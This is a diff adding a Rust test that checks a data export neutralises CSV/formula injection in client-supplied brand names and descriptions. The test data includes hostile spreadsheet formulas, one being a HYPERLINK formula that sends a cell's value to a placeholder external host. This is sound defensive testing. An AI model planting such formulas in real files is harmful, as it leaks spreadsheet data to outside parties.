@@ -13,6 +13,7 @@ on_both_backends!(
     retrain_publishes_warm_starts_while_the_vocabulary_holds_and_refits_when_it_changes,
     retrain_scores_only_rows_neither_bundle_learned_from_and_keeps_the_bundle_when_too_few_or_worse,
     a_newer_schema_is_refused_at_start,
+    export_writes_no_cell_a_spreadsheet_would_run,
 );
 
 /// Stores rows straight into the collector's database (as the server would).
@@ -605,4 +606,69 @@ fn an_unusable_postgres_url_is_refused_at_start_with_the_reason() {
     let err = run("postgres://ir@127.0.0.1:1/ir?no_such_option=1");
     assert!(err.contains("not a PostgreSQL URL"), "{err}");
     assert!(!err.contains("panicked"), "{err}");
+}
+
+/// Client text (a new brand's name and description, here) that starts like a spreadsheet
+/// formula is written defused by `export` (OWASP CSV injection: a leading apostrophe), in
+/// every file it writes, and the product's own CSV reader takes it back exactly.
+fn export_writes_no_cell_a_spreadsheet_would_run(backend: Backend) {
+    let (site, _brands, infs) = site();
+    let db = TestDb::new(backend, site.path(), "c.db");
+    let server = Server::start(site.path(), &db.arg, port(30), NO_RATE_LIMITS);
+    let hostile = [
+        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+        "+1+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "'=already quoted",
+    ];
+    let body = serde_json::to_vec(&json!({
+        "format": "influence-rec/interactions", "version": 1, "batch_id": "csv",
+        "device_id": "dev", "sent_at_ms": now_ms(),
+        "brands": hostile.iter().map(|n| json!({"name": n, "description": "=1+1 @x"})).collect::<Vec<_>>(),
+        "rows": hostile.iter().enumerate()
+            .map(|(i, n)| row(&format!("r{i}"), n, &infs[i], "pairing", 0.0))
+            .collect::<Vec<_>>(),
+    }))
+    .expect("json");
+    let (status, ack) = post(&server.addr, &body, Some("csv")).expect("answer");
+    assert_eq!(status, 200, "{ack}");
+    assert_eq!(ids(&ack, "accepted").len(), hostile.len(), "{ack}");
+    drop(server);
+    let out = site.path().join("export");
+    let o = Command::new(BIN)
+        .args(["export", "--db", &db.arg, "--bundle"])
+        .arg(site.path().join("pkg/model.bundle"))
+        .arg("--out")
+        .arg(&out)
+        .output()
+        .expect("export runs");
+    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
+    for file in ["interactions.csv", "brands.csv", "relationships.csv"] {
+        let mut rdr = csv::Reader::from_path(out.join(file)).expect(file);
+        for rec in rdr.records() {
+            let rec = rec.expect("a record");
+            for cell in rec.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{file}: {cell:?} would run as a formula"
+                );
+            }
+        }
+    }
+    // The values come back exactly through the product's cell reader: the new brands' names,
+    // and the brand column of the interactions.
+    let column = |file: &str, col: usize| -> Vec<String> {
+        let mut v: Vec<String> = csv::Reader::from_path(out.join(file))
+            .expect(file)
+            .records()
+            .map(|r| influence_rec::text::csv_uncell(&r.expect("record")[col]).to_string())
+            .collect();
+        v.sort();
+        v
+    };
+    let mut want: Vec<String> = hostile.iter().map(|s| s.to_string()).collect();
+    want.sort();
+    assert_eq!(column("brands.csv", 0), want);
+    assert_eq!(column("interactions.csv", 1), want);
 }
